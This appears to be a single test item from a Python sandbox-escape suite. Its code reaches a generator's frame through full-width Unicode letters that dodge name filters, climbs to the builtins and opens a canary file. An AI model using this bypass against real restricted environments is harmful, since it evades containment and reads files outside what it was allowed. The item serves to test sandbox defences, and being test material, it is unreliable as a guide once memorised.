# id: own-119 | family: frames | goal: a generator's frame named in full-width letters
# timeout: 3
g = (g.ｇｉ_frame.f_back for _ in [1])
frame = next(g)
result = 'ESCAPED' + '_@@NONCE@@' + str(frame.f_builtins['open']('@@CANARY_FILE@@').read())
